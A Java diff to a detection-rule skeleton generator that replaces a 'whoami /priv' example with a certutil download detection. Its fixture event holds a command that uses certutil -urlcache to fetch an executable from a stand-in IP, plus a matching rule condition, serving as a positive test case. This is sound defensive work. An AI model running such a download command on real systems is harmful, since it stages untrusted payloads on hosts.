@@ -27,7 +27,7 @@ public final class RuleSkeleton {
     /** The placeholder condition; the generated rule matches no event until it is replaced. */
     public static final String PLACEHOLDER = "commandLineLower == \"todo: write the condition\"";
     /** The example condition, commented out in the skeleton, that makes the generated scenario pass. */
-    public static final String EXAMPLE = "imageLower str[endsWith] \"\\\\whoami.exe\", commandLineLower contains \" /priv\"";
+    public static final String EXAMPLE = "imageLower str[endsWith] \"\\\\certutil.exe\", commandLineLower contains \" -urlcache\"";
 
     /** The files written. */
     public record Written(Path drl, Path scenario, String id) {}
@@ -37,7 +37,7 @@ public final class RuleSkeleton {
     /** Writes both; refuses (FileAlreadyExistsException) if either exists, and then writes nothing. */
     public static Written write(String name, String packageName, Path rulesDir, Path fixturesDir) throws IOException {
         if (!NAME.matcher(name).matches()) {
-            throw new IllegalArgumentException("rule name '" + name + "': use lower-case letters, digits, '-' and '_' (e.g. whoami-priv)");
+            throw new IllegalArgumentException("rule name '" + name + "': use lower-case letters, digits, '-' and '_' (e.g. certutil-download)");
         }
         if (!PACKAGE.matcher(packageName).matches()) {
             throw new IllegalArgumentException("package '" + packageName + "': use lower-case dotted names (e.g. tripline.detection.custom)");
@@ -56,8 +56,8 @@ public final class RuleSkeleton {
                 "{\"kind\": \"detection\", \"rule\": {\"id\": \"" + id + "\"}, \"severity\": \"medium\", \"host\": \"ws01.corp.local\", "
                         + "\"user\": \"CORP\\\\alice\", \"reasons\": [], \"events\": [{\"line\": 1}]}\n", StandardCharsets.UTF_8);
         Files.writeString(scenario.resolve("scenario.yaml"), "description: >-\n"
-                + "  " + name + ": line 1 is the positive example (whoami /priv) and must raise the rule's alert; line 2 is\n"
-                + "  the near miss (whoami alone) and must raise none. Replace both with real events of what the rule detects.\n",
+                + "  " + name + ": line 1 is the positive example (certutil -urlcache, a download) and must raise the rule's alert; line 2 is\n"
+                + "  the near miss (certutil -hashfile) and must raise none. Replace both with real events of what the rule detects.\n",
                 StandardCharsets.UTF_8);
         return new Written(drl, scenario, id);
     }
@@ -90,7 +90,7 @@ public final class RuleSkeleton {
     static String events() {
         ObjectMapper m = new ObjectMapper();
         StringBuilder out = new StringBuilder();
-        for (var ev : List.of(List.of("09:00:00", "4000", "whoami /priv"), List.of("09:01:00", "4001", "whoami"))) {
+        for (var ev : List.of(List.of("09:00:00", "4000", "certutil.exe -urlcache -split -f http://203.0.113.7/a.exe a.exe"), List.of("09:01:00", "4001", "certutil.exe -hashfile a.exe SHA256"))) {
             ObjectNode o = m.createObjectNode();
             o.put("ProviderName", "Microsoft-Windows-Sysmon");
             o.put("EventID", 1);
@@ -98,8 +98,8 @@ public final class RuleSkeleton {
             o.put("Computer", "ws01.corp.local");
             o.put("UtcTime", "2024-03-05 " + ev.get(0) + ".000");
             o.put("ProcessId", ev.get(1));
-            o.put("Image", "C:\\Windows\\System32\\whoami.exe");
-            o.put("OriginalFileName", "whoami.exe");
+            o.put("Image", "C:\\Windows\\System32\\certutil.exe");
+            o.put("OriginalFileName", "CertUtil.exe");
             o.put("CommandLine", ev.get(2));
             o.put("CurrentDirectory", "C:\\Users\\alice\\");
             o.put("User", "CORP\\alice");
